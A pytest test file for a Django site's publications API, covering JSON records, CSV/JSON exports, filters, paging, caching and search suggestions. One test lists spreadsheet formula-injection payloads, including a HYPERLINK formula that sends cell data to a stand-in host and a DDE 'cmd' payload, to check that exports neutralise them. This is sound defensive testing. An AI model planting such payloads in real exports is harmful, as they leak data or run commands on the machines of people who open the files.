"""The library for machines: the JSON API, and whole lists as CSV and JSON."""

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from django.test import Client

from ajc_site.tests.support.depth import scaled
from authentic.models import Checksum
from campaigns.models import Attachment, Contribution, Speech
from campaigns.tests import factories as make
from editions.choosing import issued_as
from editions.models import Edition

pytestmark = pytest.mark.django_db
API = "/api/publications/"
HOST = "http://localhost:8000"


def body(response: Any) -> str:
    return b"".join(response).decode() if response.streaming else response.content.decode()


def table(client: Client, query: str = "") -> list[dict[str, str]]:
    text = body(client.get(f"/api/publications.csv{query}"))
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture
def brief(settings) -> Any:
    settings.WAGTAILADMIN_BASE_URL = HOST
    return make.DocumentFactory(
        title="A brief",
        slug="a-brief",
        document_kind="brief",
        date="2022-10-03",
        date_precision="month",
        summary="What it says.",
        campaigns=[make.CampaignFactory(title="The campaign", slug="the-campaign")],
        topics=[make.TopicFactory(name="A topic", slug="a-topic")],
        places=[make.PlaceFactory(name="A place", slug="a-place")],
        contributions=[
            Contribution(
                person=make.PersonFactory(name="Somebody", slug="somebody"),
                role="Legal Adviser",
                organisation=make.OrganisationFactory(name="A network"),
            )
        ],
        attachments=[Attachment(file=make.FileFactory(title="The file"), title="The brief itself")],
    )


def test_a_record_tells_what_a_line_of_the_list_does_and_more(client, brief):
    answer = client.get(API).json()
    file = brief.attachments.get().file
    assert answer["publications"] == [
        {
            "address": f"{HOST}/publications/a-brief/",
            "title": "A brief",
            "reference": "AJC/2022/001",
            "short_address": f"{HOST}/r/2022/001/",
            "kind": "document",
            "document_kind": "brief",
            "label": "Brief",
            "text_source": "",
            "date": "2022-10",
            "edition": 1,
            "updated": "",
            "corrected": "",
            "language": "en",
            "summary": "What it says.",
            "issued_by": ["Asia Justice Coalition secretariat"],
            "signatories": 0,
            "campaigns": [{"key": "the-campaign", "name": "The campaign"}],
            "series": [],
            "topics": [{"key": "a-topic", "name": "A topic"}],
            "places": [{"key": "a-place", "name": "A place"}],
            "contributors": [
                {
                    "address": f"{HOST}/people/somebody/",
                    "name": "Somebody",
                    "role": "Legal Adviser",
                    "organisation": "A network",
                }
            ],
            "files": [
                {
                    "address": f"{HOST}{file.url}",
                    "title": "The brief itself",
                    "language": "en",
                    "size": file.file_size,
                    "pages": 3,
                    "sha256": Checksum.objects.get(stored=file.file.name).sha256,
                }
            ],
        }
    ]


def test_a_record_tells_its_edition_when_it_was_changed_and_how_a_speechs_text_came_about(client):
    page = make.SpeechFactory(text_source="prepared", contributions=make.contributions(1))
    page.save_revision().publish()
    for kind in ("update", "correction", "silent"):
        page = Speech.objects.get(pk=page.pk)
        page.summary += "." if kind == "silent" else " More."
        with issued_as(kind, "Why."):
            page.save_revision().publish()
    for kind, day in (("update", 3), ("correction", 5)):
        moment = datetime(2024, 6, day, 12, tzinfo=UTC)
        Edition.objects.filter(kind=kind).update(issued_at=moment)
    (record,) = client.get(API).json()["publications"]
    told = {"edition": 4, "updated": "2024-06-03", "corrected": "2024-06-05", "text_source": "prepared"}
    assert {name: record[name] for name in told} == told
    (row,) = table(client)
    assert {name: row[name] for name in told} == {name: str(value) for name, value in told.items()}


def test_the_api_filters_and_counts_as_the_page_does(client):
    for n in range(3):
        make.StatementFactory(date=f"202{n}-01-01")
    make.SpeechFactory(date="2021-01-01")
    answer = client.get(API, {"kind": ["statement", "video"], "year": ["2021", "2022"]}).json()
    assert answer["count"] == 2
    assert answer["facets"]["kind"] == [
        {"key": "statement", "name": "Statement", "count": 2},
        {"key": "speech", "name": "Speech", "count": 1},
        {"key": "video", "name": "Video", "count": 0},
    ]
    # Each year as it would be if it were chosen: the other facets hold, its own does not.
    assert [(year["key"], year["count"]) for year in answer["facets"]["year"]] == [
        ("2022", 1), ("2021", 1), ("2020", 1),
    ]  # fmt: skip


@pytest.mark.deep
def test_pages_of_the_api_lead_to_each_other(client, settings):
    settings.WAGTAILADMIN_BASE_URL = HOST
    for _ in range(45):
        make.StatementFactory()
    address, seen = f"{API}?kind=statement", []
    while address:
        answer = client.get(address.removeprefix(HOST)).json()
        seen += [record["address"] for record in answer["publications"]]
        address = answer["next"]
    assert len(seen) == len(set(seen)) == 45
    assert answer["page"] == answer["pages"] == 3
    assert client.get(answer["previous"].removeprefix(HOST)).json()["page"] == 2


def test_the_api_says_what_it_did_not_understand(client):
    answer = client.get(API, {"kind": "poem", "page": "x"}).json()
    assert len(answer["notices"]) == 2


def test_the_api_gives_the_excerpt_with_its_page(client):
    make.StatementFactory(body=[("text", "<p>It is about extradition.</p>")])
    (record,) = client.get(API, {"q": "extradition"}).json()["publications"]
    assert record["excerpt"] == {"text": "It is about extradition."}


def test_a_table_holds_the_whole_list_in_its_order(client):
    for n in range(30):
        make.StatementFactory(title=f"No {n}", date=f"2023-01-{30 - n:02}")
    make.SpeechFactory()
    rows = table(client, "?kind=statement")
    assert [row["title"] for row in rows] == [f"No {n}" for n in range(30)]


def test_a_table_names_what_there_are_several_of(client, brief):
    (row,) = table(client)
    assert row["campaigns"] == "The campaign"
    assert row["contributors"] == "Somebody"
    assert row["files"].startswith(f"{HOST}/documents/")
    assert row["date"] == "2022-10"


@pytest.mark.parametrize(
    "title",
    [
        "=HYPERLINK(\"https://example.org/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
        "\n@x", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "\u200b=1+1", "\u00a0=1+1", "|x", "%0A=1",
    ],
)  # fmt: skip
def test_no_cell_of_a_table_is_a_formula(client, title):
    make.StatementFactory(title=title, summary=title, slug="it")
    (row,) = table(client)
    for cell in (row["title"], row["summary"]):
        bare = cell.strip().lstrip("\u200b\u00a0\ufeff\u2060")
        assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "|")), cell


def test_a_table_keeps_quotes_commas_and_lines_apart(client):
    make.StatementFactory(title='A "title", with; signs', summary="One line.\nAnother; and «more» မြန်မာ")
    (row,) = table(client)
    assert row["title"] == 'A "title", with; signs'
    assert row["summary"] == "One line. Another; and «more» မြန်မာ"


def test_data_is_json_with_all_records(client):
    for _ in range(30):
        make.StatementFactory()
    found = json.loads(body(client.get("/api/publications.json")))
    assert len(found) == 30
    assert json.loads(body(client.get("/api/publications.json?kind=video"))) == []


def test_downloads_are_streamed_and_name_their_file(client):
    make.StatementFactory()
    for ending, kind in (("csv", "text/csv"), ("json", "application/json")):
        response = client.get(f"/api/publications.{ending}")
        assert response.streaming
        assert response["Content-Type"].startswith(kind)
        assert response["Content-Disposition"] == f'attachment; filename="publications.{ending}"'


@pytest.mark.deeper
def test_a_download_takes_as_many_queries_for_many_as_for_few(client, django_assert_max_num_queries):
    count = scaled(60)
    for _ in range(count):
        make.StatementFactory(contributions=make.contributions(1), attachments=make.attachments(1))
    with django_assert_max_num_queries(18):
        assert len(table(client)) == count


@pytest.mark.parametrize(
    "address", [API, f"{API}suggestions/", "/api/publications.csv", "/api/publications.json"]
)
def test_machines_read_but_do_not_write(client, address):
    assert client.head(address).status_code == 200
    assert client.post(address).status_code == 405
    assert client.get(address)["Access-Control-Allow-Origin"] == "*"
    assert "Set-Cookie" not in client.get(address)
    assert "Cookie" not in client.get(address).get("Vary", "")


def test_an_answer_that_did_not_change_is_not_sent_again(client):
    make.StatementFactory()
    tag = client.get(API)["ETag"]
    assert client.get(API, HTTP_IF_NONE_MATCH=tag).status_code == 304
    make.StatementFactory()
    assert client.get(API, HTTP_IF_NONE_MATCH=tag).status_code == 200


# --- Suggestions ----------------------------------------------------------------------------------


def suggested(client: Client, typed: str) -> list[str]:
    return client.get(f"{API}suggestions/", {"q": typed}).json()["suggestions"]


@pytest.mark.parametrize("typed", ["univ", "Universa", "jurisd", "universal jur", "UNIVERSÁL", " univ "])
def test_the_beginning_of_a_word_is_enough(client, typed):
    make.StatementFactory(title="On universal jurisdiction")
    make.StatementFactory(title="On torture")
    assert suggested(client, typed) == ["On universal jurisdiction"]


def test_names_and_titles_are_suggested_each_once(client):
    make.StatementFactory(
        title="Myanmar",
        places=[make.PlaceFactory(name="Myanmar")],
        contributions=[Contribution(person=make.PersonFactory(name="Myat Noe"))],
    )
    make.StatementFactory(title="Statement on Myanmar")
    make.PlaceFactory(name="Myland, of which nothing is published")
    assert suggested(client, "my") == ["Myanmar", "Myat Noe", "Statement on Myanmar"]


def test_the_middle_of_a_title_without_blanks_is_suggested(client):
    make.StatementFactory(title="ปฏิญญาสากลว่าด้วยสิทธิมนุษยชน", language="th")
    assert suggested(client, "สิทธิ") == ["ปฏิญญาสากลว่าด้วยสิทธิมนุษยชน"]


@pytest.mark.parametrize("typed", ["", "u", " ", "'", "\\", ":*", "a" * 5000, "& | !", "<script>", "💥"])
def test_whatever_is_typed_there_is_an_answer(client, typed):
    make.StatementFactory(title="On universal jurisdiction")
    assert suggested(client, typed) == []


def test_at_most_eight_are_suggested(client):
    for n in range(12):
        make.StatementFactory(title=f"Statement {n}")
    assert len(suggested(client, "state")) == 8
